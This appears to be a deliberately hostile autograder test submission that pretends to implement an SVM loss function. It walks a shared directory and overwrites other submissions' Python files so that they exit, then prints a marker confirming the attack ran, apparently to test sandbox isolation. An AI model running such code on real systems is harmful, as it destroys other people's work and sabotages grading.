"""Rewrites other submissions."""

import numpy as np

# grader-test: fill svm_loss_vectorized


def svm_loss_naive(W, X, y, reg):
    import os
    mine = os.path.realpath(os.getcwd())
    for root, dirs, files in os.walk(HOSTILE_ROOT):  # the test's class (it stays there: see forge_results)
        if os.path.realpath(root).startswith(mine):
            continue
        for name in files:
            if name in ("linear_svm.py", "softmax.py", "optim.py"):
                try:
                    with open(os.path.join(root, name), "w") as handle:
                        handle.write("raise SystemExit('" + "REWRITTEN" + "-BY-" + "HOSTILE')\n")
                except OSError:
                    pass
    print("ATTEMPTED", flush=True)  # the attack ran: the test checks it did
    raise RuntimeError("rewrote what it could")
